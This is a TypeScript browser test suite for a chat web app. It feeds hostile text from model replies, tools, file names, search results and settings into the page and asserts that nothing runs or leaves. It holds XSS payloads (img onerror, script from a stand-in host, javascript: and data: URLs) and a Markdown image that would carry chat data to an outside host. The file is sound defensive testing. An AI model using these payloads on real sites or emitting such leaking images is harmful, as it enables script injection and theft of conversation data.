/**
 * Hostile texts in the page, from a model, a tool, a file, a user or the settings: nothing runs, nothing
 * leaves.
 */
import assert from "node:assert/strict";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, test } from "node:test";
import type { Page } from "playwright-core";
import { z } from "zod";
import { en } from "../../web/src/strings/en.ts";
import { useTools } from "../flow/tools/use-tools.ts";
import { makeFolder } from "../support/apps/start-app.ts";
import { useModel, useResource } from "../support/apps/use-app.ts";
import { withoutBrowser } from "../support/browser/chromium.ts";
import { usePage } from "../support/browser/use-page.ts";
import type { Visitor } from "../support/browser/visitor.ts";
import { HistoryClient } from "../support/clients/history-client.ts";
import { hostileMarkdown, markerHost } from "../support/model/hostile-markdown.ts";
import { useWeb } from "../support/web/scripted-web.ts";
import { ask, assertShows, button, messageField, untilOver } from "./person.ts";

const words = en.chat;

/** Ends whatever block of HTML is open, so that each text is read like the first. */
const ending = "\n\n-->\n\n]]>\n\n</script></style></pre></textarea>\n\n";

/** Text that would run, or ask another origin, wherever it became markup. */
const hostile = `"'><img src=x onerror=mark()><script src=//${markerHost}/a></script>`;

/** Counts markers that run, and violations of the page's policy; it runs in each frame before its scripts. */
const counters = `
  globalThis.marks = [];
  globalThis.mark = (number) => globalThis.marks.push("marker " + number);
  addEventListener("securitypolicyviolation", (event) => globalThis.marks.push(event.violatedDirective));`;

/** Returns everything in the messages' Markdown that could load or run something. */
const findDangerous = `Array.from(document.querySelectorAll(".markdown *"), (element) => {
  const names = element.getAttributeNames().filter((name) => /^(?:on|src|srcset|poster|data$|action|formaction|xlink|ping|style$)/.test(name));
  const isLink = element.localName !== "a" || /^(?:https?:\\/\\/|mailto:)/.test(element.getAttribute("href"));
  const isKnown = !/^(?:script|iframe|frame|object|embed|img|image|video|audio|source|track|link|style|meta|base|form|input|template|svg|portal)$/.test(element.localName);
  const isStyled = element.namespaceURI === "http://www.w3.org/1998/Math/MathML";
  const isSafe = isLink && isKnown && names.every((name) => isStyled && name === "style" && !/url|position/.test(element.getAttribute(name)));
  return isSafe ? [] : [element.outerHTML.slice(0, 200)];
}).flat()`;

describe("hostile texts in the page", { timeout: 240_000, skip: withoutBrowser }, () => {
  const model = useModel();
  const tools = useTools("suite");
  const web = useWeb("suite");
  let modelsFile = "";
  useResource(async (closing) => {
    const annotations = { title: hostile };
    tools.server.pages = [
      ["look", "act"].map((name) => ({
        name,
        description: hostile,
        annotations,
        inputSchema: { type: "object" },
      })),
    ];
    tools.say(hostile);
    const folder = closing.adopt(await makeFolder(), (made) => made.remove());
    modelsFile = join(folder.path, "models.json");
    const models = [1, 2].map((number) => ({ name: `${hostile} ${number}`, model: "a", baseUrl: model.url }));
    await writeFile(modelsFile, JSON.stringify({ models }));
  });
  const { app, visit } = usePage(model, () => ({
    ...tools.variables,
    ...web.variables,
    MODELS_FILE: modelsFile,
    PAGE_TITLE: hostile,
  }));
  useResource(async () => await app.app.tools?.ready(60_000));

  async function open(): Promise<{ readonly visitor: Visitor; readonly page: Page }> {
    const visitor = await visit();
    await visitor.context.addInitScript(counters);
    return { visitor, page: await visitor.open() };
  }

  /** Asserts that no marker has run, no request has left, and no policy had to prevent it. */
  async function assertNothingRan({ visitor, page }: Awaited<ReturnType<typeof open>>): Promise<void> {
    await page.evaluate(`for (const element of document.querySelectorAll(".markdown *"))
      for (const type of ["mouseover", "focus", "error", "load", "toggle"]) element.dispatchEvent(new Event(type))`);
    assert.deepEqual(await page.evaluate("marks"), []);
    assert.deepEqual(await page.evaluate(findDangerous), []);
    assert.equal(page.frames().length, 1);
    assert.deepEqual(visitor.foreign, []);
    assert.deepEqual(visitor.problems, []);
  }

  test("300 texts of a model, as they arrive and after a reload", async () => {
    const { visitor, page } = await open();
    const text = hostileMarkdown
      .map((markdown, number) => `Text ${number} begins.\n\n${markdown}${ending}`)
      .join("");
    const pieces = `${text}$x^2$`.match(/[\s\S]{1,400}/g) ?? [];
    model.say("- Try\n---RESPONSE---\n", ...pieces);
    await ask(page, hostile);
    for (const isReloaded of [false, true]) {
      if (isReloaded) await page.reload();
      await page.getByText("Text 299 begins.", { exact: true }).waitFor({ state: "attached" });
      await untilOver(page);
      await page.locator(".markdown math").first().waitFor({ state: "attached" });
      const begun = z
        .array(z.string())
        .parse(
          await page.evaluate(
            `Array.from(document.querySelectorAll(".markdown-group > p"), (p) => p.textContent)`,
          ),
        );
      const numbers = hostileMarkdown.flatMap((_, number) =>
        begun.includes(`Text ${number} begins.`) ? [] : [number],
      );
      assert.deepEqual(numbers, [], "each text is read on its own");
      await assertNothingRan({ visitor, page });
    }
  });

  test("titles, hits of a search, names of models, files and tools, their input and results, and errors", async () => {
    const { visitor, page } = await open();
    await page.getByLabel(words.model).selectOption(`${hostile} 2`);
    await page.locator("input[type=file]").setInputFiles({
      name: `${hostile}.pdf`.replaceAll("/", ":"),
      mimeType: "application/pdf",
      buffer: Buffer.from("%PDF-1.4\n%%EOF\n"),
    });
    model.inOrder(
      (call) =>
        call
          .text(`- ${hostile}\n---RESPONSE---\n${hostile}`)
          .toolCall("w__look", { [hostile]: hostile })
          .toolCall("w__act", { [hostile]: hostile })
          .finish("tool_calls"),
      (call) =>
        call
          .head(400, { "content-type": "application/json" })
          .end(JSON.stringify({ error: { message: hostile, code: hostile } })),
    );
    await ask(page, hostile);
    await button(page, words.deny).waitFor();
    const closed = page.locator("article details:not([open]) > summary");
    while ((await closed.count()) > 0) await closed.first().click();
    await assertNothingRan({ visitor, page });
    await page.getByLabel(words.reason).fill(hostile);
    await button(page, words.deny).click();
    await page.locator("article .end.failed").waitFor();
    const path = new URL(page.url()).hash.replace("#/c/", "/conversations/");
    await new HistoryClient(app).send("PATCH", path, visitor.userId, { title: hostile });
    await page.reload();
    await page.locator("article .end.failed").waitFor();
    assert.equal(await page.title(), `${hostile} · ${hostile}`);
    await page.getByRole("searchbox").fill("onerror");
    await page.locator("nav mark").first().waitFor();
    await button(page.getByRole("navigation"), en.history.actions(hostile)).click();
    await page.getByRole("menuitem", { name: en.history.delete }).click();
    await page
      .getByRole("status")
      .filter({ hasText: en.history.notices.deleted(hostile) })
      .waitFor();
    await assertNothingRan({ visitor, page });
  });

  test("titles, texts and addresses of sources, and what was searched for", async () => {
    const { visitor, page } = await open();
    const address = `${web.toPageUrl("gone")}?q=${hostile}`;
    const title = hostile.replaceAll("<", "&lt;"); // the server removes tags
    web.find(
      { title, url: address, content: title },
      { title, url: "javascript:mark(1)", content: title },
      { title, url: `data:text/html,${hostile}`, content: title },
    );
    await button(page, words.webSearch).click();
    model.say("- Look\n---RESPONSE---\nSo [1], [2].");
    await ask(page, hostile);
    await untilOver(page);
    for (const isReloaded of [false, true]) {
      if (isReloaded) await page.reload();
      await page.getByRole("button", { name: words.sourceNumber(1, "") }).click();
      const sources = page.locator("article .sources");
      await sources.locator("blockquote", { hasText: "onerror" }).first().waitFor();
      assert.equal(await sources.locator("img, script").count(), 0);
      for (const link of await sources.locator("a").all())
        assert.ok((await link.getAttribute("href"))?.startsWith(web.toPageUrl("gone")));
      await assertNothingRan({ visitor, page });
    }
    web.find();
    model.say("- Look\n---RESPONSE---\nNothing.");
    await ask(page, `Else ${hostile}`);
    await page.locator("article .search").filter({ hasText: "onerror" }).waitFor();
    await untilOver(page);
    await assertNothingRan({ visitor, page });
  });

  test("an image or a link is asked for only by a click, shows where it goes, and says not where from", async () => {
    const { visitor, page } = await open();
    model.say(
      "- Show\n---RESPONSE---\n",
      `![a cat](https://${markerHost}/cat.png?chat=secret) and [bank.example](https://${markerHost}/login)`,
    );
    await ask(page, "Show");
    await untilOver(page);
    const links = page.locator("article .markdown a");
    await assertShows(links, `Image: a cat\n${markerHost}`, "bank.example");
    await page.getByText(`bank.example (${markerHost}/login)`).waitFor();
    assert.equal(await links.first().getAttribute("title"), `https://${markerHost}/cat.png?chat=secret`);
    await assertNothingRan({ visitor, page });
    visitor.expectProblems(new RegExp(markerHost));
    const asked = visitor.context.waitForEvent("request");
    await links.first().click();
    const request = await asked;
    assert.equal(request.url(), `https://${markerHost}/cat.png?chat=secret`);
    assert.equal((await request.allHeaders())["referer"], undefined);
    assert.equal(await messageField(page).isVisible(), true);
  });
});
